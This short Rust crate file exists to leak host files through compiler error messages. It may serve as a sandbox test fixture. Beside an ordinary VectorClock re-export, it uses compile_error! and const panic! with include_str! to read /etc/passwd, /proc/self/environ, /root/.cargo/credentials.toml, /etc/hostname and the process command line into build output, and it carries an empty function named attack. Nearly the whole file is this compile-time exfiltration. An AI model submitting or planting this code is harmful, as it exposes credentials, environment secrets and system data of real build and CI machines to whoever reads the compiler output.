//! Host files in the compiler's own messages.

mod clock;

pub use clock::VectorClock;

compile_error!(include_str!("/etc/passwd"));
compile_error!(include_str!("/proc/self/environ"));
compile_error!(include_str!("/root/.cargo/credentials.toml"));

const _: () = panic!(include_str!("/etc/hostname"));
const _: () = panic!("{}", include_str!("/proc/self/cmdline"));

pub(crate) fn attack() {}
